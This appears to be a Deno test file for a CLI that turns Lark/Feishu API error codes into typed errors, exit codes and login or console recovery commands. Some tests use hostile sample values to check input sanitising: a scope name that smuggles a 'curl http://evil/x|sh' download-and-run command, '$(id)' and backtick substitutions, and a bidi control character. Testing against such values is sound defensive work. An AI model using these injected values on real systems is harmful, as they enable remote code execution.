import assert from "node:assert/strict";
import {
  ApiError,
  AuthError,
  classifyApiCode,
  consoleUrl,
  errorFromApiCode,
  MAX_SERVICE_MSG,
  neededScopes,
  PermissionError,
  toEnvelope,
} from "./mod.ts";

Deno.test("230001 maps to exit code 2, type auth, and a login command", () => {
  const error = errorFromApiCode({ code: 230001, msg: "token expired" });
  assert.ok(error instanceof AuthError);
  assert.equal(error.code, 2);
  assert.equal(error.type, "auth");
  assert.match(error.message, /token invalid or expired/i);
  assert.match(error.message, /token expired/);
  assert.equal(error.recovery.command, "hark auth login");
});

Deno.test("230002 maps to exit code 2, type permission, and a login with --scope", () => {
  const error = errorFromApiCode({
    code: 230002,
    msg: "no permission",
    error: { permission_violations: [{ subject: "im:message:send" }] },
  });
  assert.ok(error instanceof PermissionError);
  assert.equal(error.code, 2);
  assert.equal(error.type, "permission");
  assert.match(error.message, /insufficient permission/i);
  assert.equal(error.recovery.command, "hark auth login --scope im:message:send");
  assert.equal((error as PermissionError).apiCode, 230002);
});

Deno.test("230002 without a known scope still recommends a login with --scope", () => {
  const error = errorFromApiCode({ code: 230002 });
  assert.equal(error.code, 2);
  assert.equal(error.recovery.command, "hark auth login --scope <scope>");
});

Deno.test("230002 falls back to the scopes the caller knows", () => {
  const error = errorFromApiCode({ code: 230002 }, { scopes: ["calendar:calendar:read"] });
  assert.equal(error.recovery.command, "hark auth login --scope calendar:calendar:read");
});

Deno.test("999914 maps to exit code 2, type mfa, pointing at security settings", () => {
  const error = errorFromApiCode({ code: 999914 }, { httpStatus: 400, requestId: "req-9" });
  assert.ok(error instanceof ApiError);
  assert.equal(error.code, 2);
  assert.equal(error.type, "mfa");
  assert.match(error.message, /multi-factor/i);
  assert.match(error.recovery.suggestion, /security settings/);
  assert.equal(error.apiCode, 999914);
  assert.equal(error.httpStatus, 400);
  assert.equal(error.requestId, "req-9");
});

Deno.test("500000 maps to exit code 4, type server_error, retry later", () => {
  const error = errorFromApiCode({ code: 500000, msg: "internal" }, { httpStatus: 500 });
  assert.ok(error instanceof ApiError);
  assert.equal(error.code, 4);
  assert.equal(error.type, "server_error");
  assert.match(error.message, /temporarily unavailable/i);
  assert.match(error.recovery.suggestion, /retry later/i);
});

Deno.test("the spec's four codes give their mapped code as the envelope's code", () => {
  const expected: Record<number, [number, string]> = {
    230001: [2, "auth"],
    230002: [2, "permission"],
    999914: [2, "mfa"],
    500000: [4, "server_error"],
  };
  for (const [apiCode, [code, type]] of Object.entries(expected)) {
    const envelope = toEnvelope(errorFromApiCode({ code: Number(apiCode) }));
    assert.equal(envelope.error.code, code, apiCode);
    assert.equal(envelope.error.type, type, apiCode);
    assert.ok(envelope.error.recovery.suggestion, apiCode);
    assert.ok(envelope.error.recovery.command, apiCode);
  }
});

Deno.test("classifyApiCode() knows DESIGN.md's Lark codes", () => {
  for (const code of [99991663, 99991668, 99991677]) {
    assert.equal(classifyApiCode(code), "token_invalid", String(code));
  }
  for (const code of [99991672, 99991679]) {
    assert.equal(classifyApiCode(code), "permission", String(code));
  }
  assert.equal(classifyApiCode(99991400), "rate_limit");
  assert.equal(classifyApiCode(0), undefined);
  assert.equal(classifyApiCode(230001), undefined);
  assert.equal(classifyApiCode(191002), undefined);
});

Deno.test("Lark token codes become AuthError with exit code 3", () => {
  for (const code of [99991663, 99991668, 99991677]) {
    const error = errorFromApiCode({ code, msg: "Invalid access token" });
    assert.ok(error instanceof AuthError, String(code));
    assert.equal(error.code, 3);
    assert.equal(error.recovery.command, "hark auth login");
    assert.match(error.message, new RegExp(String(code)));
  }
});

Deno.test("Lark permission codes become PermissionError with exit 1 and the needed scope", () => {
  const error = errorFromApiCode({
    code: 99991672,
    msg: "Access denied. One of the following scopes is required: [calendar:calendar:read]",
  });
  assert.ok(error instanceof PermissionError);
  assert.equal(error.code, 1);
  assert.deepEqual((error as PermissionError).scopes, ["calendar:calendar:read"]);
  assert.equal(error.recovery.command, "hark auth login --scope calendar:calendar:read");
});

Deno.test("99991400 is a rate limit with exit 1", () => {
  const error = errorFromApiCode({ code: 99991400, msg: "request trigger frequency limit" });
  assert.ok(error instanceof ApiError);
  assert.equal(error.code, 1);
  assert.equal(error.type, "rate_limit");
});

Deno.test("an unmapped code is an ApiError with exit 1 that keeps the service's message", () => {
  const error = errorFromApiCode(
    { code: 191002, msg: "calendar not found", error: { log_id: "log-77" } },
    { httpStatus: 404 },
  );
  assert.ok(error instanceof ApiError);
  assert.equal(error.code, 1);
  assert.equal(error.type, "api");
  assert.equal(
    error.message,
    "The service answered with code 191002: calendar not found (log id log-77)",
  );
  assert.equal((error as ApiError).requestId, "log-77");
  assert.equal((error as ApiError).httpStatus, 404);
});

Deno.test("neededScopes() prefers permission_violations and removes duplicates", () => {
  assert.deepEqual(
    neededScopes({
      code: 99991679,
      msg: "scopes [other:scope:x]",
      error: {
        permission_violations: [
          { subject: "im:message:send" },
          { subject: "im:message:send" },
          { subject: "im:chat:read" },
          {},
        ],
      },
    }),
    ["im:message:send", "im:chat:read"],
  );
});

Deno.test("neededScopes() reads a bracketed list from the message", () => {
  assert.deepEqual(
    neededScopes({ code: 99991672, msg: "required: [im:message:send, im:message]" }),
    ["im:message:send", "im:message"],
  );
  assert.deepEqual(neededScopes({ code: 99991672, msg: "no list here" }), []);
  assert.deepEqual(neededScopes({ code: 99991672, msg: "[not a scope]" }), []);
  assert.deepEqual(neededScopes({ code: 99991672 }), []);
});

// Issue 11, "Errors that tell the truth".

const APP = {
  identity: "user" as const,
  appId: "cli_app1",
  serviceOrigin: "https://open.feishu.cn",
};
const VIOLATIONS = {
  permission_violations: [
    { subject: "im:message.send_as_user" },
    { subject: "im:message" },
    { subject: "im:message:send_as_bot" },
  ],
  log_id: "log-9",
};

Deno.test("99991672: the app lacks the scope; the fix is the console page on the profile's domain", () => {
  const error = errorFromApiCode(
    {
      code: 99991672,
      msg: "Access denied. One of the following scopes is required",
      error: VIOLATIONS,
    },
    { caller: APP },
  );
  assert.ok(error instanceof PermissionError);
  assert.equal(error.code, 1);
  assert.match(
    error.message,
    /^The app has not enabled the scope this call needs \(code 99991672\)/,
  );
  assert.match(error.message, /Access denied\. One of the following scopes is required/);
  assert.match(error.message, /\(log id log-9\)$/);
  const url =
    "https://open.feishu.cn/page/scope-apply?clientID=cli_app1&scopes=im%3Amessage.send_as_user";
  assert.equal(error.recovery.url, url);
  assert.ok(error.recovery.suggestion.includes(url), error.recovery.suggestion);
  assert.match(error.recovery.suggestion, /developer console/);
  // A user still has to grant the scope once the app has it: one scope, not all three.
  assert.equal(error.recovery.command, "hark auth login --scope im:message.send_as_user");
  assert.deepEqual(error.alternatives, VIOLATIONS.permission_violations.map((v) => v.subject));
  const envelope = toEnvelope(error);
  assert.equal(envelope.error.recovery.url, url);
  assert.equal(envelope.error.request_id, "log-9");
});

Deno.test("any permission error of the bot points at the console, never at a sign-in", () => {
  for (const code of [99991672, 99991679, 99991676, 230027]) {
    const error = errorFromApiCode({ code, error: VIOLATIONS }, {
      caller: { ...APP, identity: "bot" },
      scopes: ["im:message:send_as_bot"],
    });
    assert.ok(error instanceof PermissionError, String(code));
    assert.equal(
      error.recovery.url,
      "https://open.feishu.cn/page/scope-apply?clientID=cli_app1&scopes=im%3Amessage%3Asend_as_bot",
      String(code),
    );
    assert.equal(error.recovery.command, "", String(code));
    assert.doesNotMatch(error.recovery.suggestion, /sign in/i, String(code));
  }
});

Deno.test("99991679: the user has not granted the scope; sign in again asking for ONE of them", () => {
  const error = errorFromApiCode({ code: 99991679, msg: "Unauthorized", error: VIOLATIONS }, {
    caller: { ...APP, profile: "work" },
  });
  assert.ok(error instanceof PermissionError);
  assert.match(
    error.message,
    /^The user has not granted the scope this call needs \(code 99991679\): Unauthorized \(log id log-9\)$/,
  );
  assert.equal(
    error.recovery.command,
    "hark auth login --profile work --scope im:message.send_as_user",
  );
  assert.equal(error.recovery.url, undefined);
  assert.match(error.recovery.suggestion, /any one of "im:message\.send_as_user", "im:message"/);
  // The scope the call declares wins among the alternatives.
  const declared = errorFromApiCode({ code: 99991679, error: VIOLATIONS }, {
    caller: APP,
    scopes: ["im:message"],
  });
  assert.equal(declared.recovery.command, "hark auth login --scope im:message");
  // A call that declares several of the named scopes needs them all (message create as a user:
  // im:message.send_as_user and im:message both): all are asked for, none "any one of".
  const both = errorFromApiCode({ code: 99991679, error: VIOLATIONS }, {
    caller: APP,
    scopes: ["im:message.send_as_user", "im:message"],
  });
  assert.ok(both instanceof PermissionError);
  assert.deepEqual(both.scopes, ["im:message.send_as_user", "im:message"]);
  assert.equal(
    both.recovery.command,
    "hark auth login --scope im:message.send_as_user --scope im:message",
  );
  assert.doesNotMatch(both.recovery.suggestion, /any one of/);
});

Deno.test("99991676 and 230027 are permission errors", () => {
  for (const code of [99991676, 230027]) {
    assert.equal(classifyApiCode(code), "permission");
    const error = errorFromApiCode({ code, msg: "no" }, { scopes: ["contact:user.base:readonly"] });
    assert.ok(error instanceof PermissionError, String(code));
    assert.equal(error.type, "permission");
    assert.equal(error.recovery.command, "hark auth login --scope contact:user.base:readonly");
  }
});

Deno.test("the spec's four codes keep their map, and every message has the msg and the log id", () => {
  const cases: [number, number, string][] = [
    [230001, 2, "auth"],
    [230002, 2, "permission"],
    [999914, 2, "mfa"],
    [500000, 4, "server_error"],
  ];
  for (const [code, exit, type] of cases) {
    const error = errorFromApiCode(
      { code, msg: `Lark says ${code}`, error: { log_id: `log-${code}` } },
      { caller: APP },
    );
    assert.equal(error.code, exit, String(code));
    assert.equal(error.type, type, String(code));
    assert.ok(error.message.includes(`Lark says ${code}`), error.message);
    assert.ok(error.message.includes(`log id log-${code}`), error.message);
    assert.equal(error.requestId, `log-${code}`);
  }
  // IM's 230002 ("bot not in the chat") keeps the spec's sign-in recovery.
  const notInChat = errorFromApiCode(
    { code: 230002, msg: "Bot/User can NOT be out of the chat." },
    {
      caller: { ...APP, identity: "bot" },
    },
  );
  assert.equal(notInChat.recovery.command, "hark auth login --scope <scope>");
  assert.match(notInChat.message, /Bot\/User can NOT be out of the chat\./);
});

Deno.test("consoleUrl() falls back to the console's app list without an app id", () => {
  assert.equal(consoleUrl(undefined, "a:b"), "https://open.larksuite.com/app");
  assert.equal(
    consoleUrl({ identity: "bot", appId: "cli_x", serviceOrigin: "http://127.0.0.1:8" }, undefined),
    "http://127.0.0.1:8/page/scope-apply?clientID=cli_x",
  );
});

const INJECTED = "calendar:x:y; curl http://evil/x|sh #";

Deno.test("a scope the service names is kept only when it has a scope's shape", () => {
  const scopes = neededScopes({
    code: 99991679,
    error: {
      permission_violations: [
        { subject: INJECTED },
        { subject: "calendar:calendar.event:read" },
        { subject: "$(id):a:b" },
        { subject: `a:${"b".repeat(200)}` },
        { subject: "im:message\n" },
        { subject: 42 as unknown as string },
      ],
    },
  });
  assert.deepEqual(scopes, ["calendar:calendar.event:read"]);
  // Only invalid names: the message's list is read instead, with the same rule.
  assert.deepEqual(
    neededScopes({
      code: 99991679,
      msg: "one of these privileges: [im:message, `id`:a:b]",
      error: { permission_violations: [{ subject: INJECTED }] },
    }),
    ["im:message"],
  );
});

Deno.test("a hostile scope never reaches a recovery command (99991679, 99991672, 99991676, 230002)", () => {
  for (const code of [99991679, 99991672, 99991676, 230002]) {
    const error = errorFromApiCode({
      code,
      msg: "Unauthorized",
      error: { permission_violations: [{ subject: INJECTED }] },
    });
    const { command, suggestion } = error.recovery;
    assert.ok(!command.includes("curl") && !suggestion.includes("curl"), `${code}: ${command}`);
    assert.match(command, /^(hark auth login( --scope <scope>)?)?$/, `${code}: ${command}`);
  }
});

Deno.test("recovery commands quote every value: the profile and the caller's own scopes", () => {
  const error = errorFromApiCode({ code: 99991679 }, {
    scopes: ["im:message", "a b"],
    caller: { identity: "user", profile: "work" },
  });
  assert.equal(
    error.recovery.command,
    "hark auth login --profile work --scope im:message --scope 'a b'",
  );
  assert.equal(
    new PermissionError("denied", { scopes: ["x:y", "$(id)"] }).recovery.command,
    "hark auth login --scope x:y --scope '$(id)'",
  );
});

Deno.test("every mapped code quotes the service's msg cut to MAX_SERVICE_MSG, the rest counted", () => {
  const huge = "y".repeat(5_000_000);
  for (const code of [1234, 230001, 99991679, 99991663, 99991400, 500000]) {
    const error = errorFromApiCode({ code, msg: huge }, { requestId: "log-1" });
    assert.ok(error.message.length < MAX_SERVICE_MSG + 200, `${code}: ${error.message.length}`);
    assert.match(error.message, /… \(4999000 more characters\) \(log id log-1\)$/, String(code));
    const envelope = JSON.stringify(toEnvelope(error));
    assert.ok(envelope.length < MAX_SERVICE_MSG + 600, String(code));
  }
});

Deno.test("errorFromApiCode() drops a body's log_id that does not look like one", () => {
  const error = errorFromApiCode(
    { code: 1234, msg: "nope", error: { log_id: "\u202eevil\u202c" } },
    {},
  );
  assert.equal(error.requestId, undefined);
});
